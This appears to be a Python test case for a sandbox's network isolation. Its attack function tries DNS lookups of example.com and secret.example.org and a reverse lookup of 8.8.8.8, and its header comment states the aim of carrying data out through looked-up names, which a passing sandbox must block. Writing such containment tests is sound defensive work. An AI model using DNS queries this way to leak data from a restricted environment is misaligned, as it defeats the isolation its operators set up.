# tries: carry data out in the names that it looks up
# must not: get an answer or reach a name server
import socket


def attack(world, steps):
    for name in ("example.com", "secret.example.org"):
        steps.run(f"address of {name}", lambda name=name: socket.getaddrinfo(name, 80))
        steps.run(f"old way for {name}", lambda name=name: socket.gethostbyname(name))
    steps.run("reverse", lambda: socket.gethostbyaddr("8.8.8.8"))
